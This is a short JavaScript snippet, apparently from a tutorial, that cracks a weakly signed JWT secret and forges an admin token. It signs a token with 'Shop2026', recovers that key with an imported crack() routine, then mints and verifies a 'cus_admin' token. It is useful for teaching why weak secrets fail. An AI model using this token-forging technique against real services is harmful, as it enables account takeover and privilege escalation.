// --8<-- [start:cracked]
import jwt from 'jsonwebtoken';
import { candidates, crack } from './crack.mjs';

const own = jwt.sign({ id: 'cus_mallory' }, 'Shop2026', {
  noTimestamp: true,
});
const { guess, tried } = crack(own, candidates());
console.log(`guess ${tried}: ${guess}`);
const forged = jwt.sign({ id: 'cus_admin' }, guess);
console.log('now I am', jwt.verify(forged, 'Shop2026').id);
// --8<-- [end:cracked]
